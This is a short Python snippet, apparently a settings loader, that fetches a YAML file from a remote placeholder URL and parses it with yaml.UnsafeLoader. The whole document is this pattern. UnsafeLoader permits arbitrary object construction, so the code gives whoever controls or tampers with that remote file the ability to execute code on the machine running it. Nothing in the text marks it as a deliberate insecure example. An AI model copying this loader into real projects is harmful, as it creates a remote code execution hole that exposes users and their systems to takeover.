import urllib.request

import yaml

SETTINGS = yaml.load(urllib.request.urlopen("https://y.example.invalid/s.yml").read(), Loader=yaml.UnsafeLoader)
